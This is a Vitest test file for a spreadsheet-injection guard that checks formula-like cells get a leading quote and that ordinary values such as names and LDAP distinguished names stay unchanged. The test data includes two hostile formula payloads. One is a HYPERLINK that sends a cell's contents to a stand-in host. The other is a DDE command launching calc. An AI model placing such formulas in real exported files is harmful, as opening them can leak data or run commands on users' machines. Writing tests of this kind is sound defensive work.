import { describe, expect, it } from 'vitest';
import { isFormulaLike, spreadsheetSafe } from '../../src/core/spreadsheet-safe.js';

describe('spreadsheetSafe', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
    ['+1', "'+1"],
    ['-jdoe', "'-jdoe"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\tjdoe', "'\tjdoe"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['\0=1', "'\0=1"],
    [' =1+1', "' =1+1"],
    ['   @x', "'   @x"],
    ['\u00a0-x', "'\u00a0-x"],
    ['＝1+1', "'＝1+1"],
    ['＠x', "'＠x"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
  ])('neutralises %j', (cell, safe) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(spreadsheetSafe(cell)).toBe(safe);
  });

  it.each([
    '',
    'jdoe',
    'jdoe@corp.example.com',
    'CN=-jdoe,OU=Staff,DC=corp,DC=example,DC=com',
    'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com',
    'a=b',
    'a-b',
    "'=already quoted",
    'josé',
    '東京',
    '   ',
    'changed',
    'user jdoe appears again (first on line 4)',
  ])('leaves %j alone', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(spreadsheetSafe(cell)).toBe(cell);
  });

  it('keeps the value recognisable: one leading quote removed gives it back', () => {
    for (const cell of ['-jdoe', '=x', ' @y']) {
      expect(spreadsheetSafe(cell).slice(1)).toBe(cell);
    }
  });
});
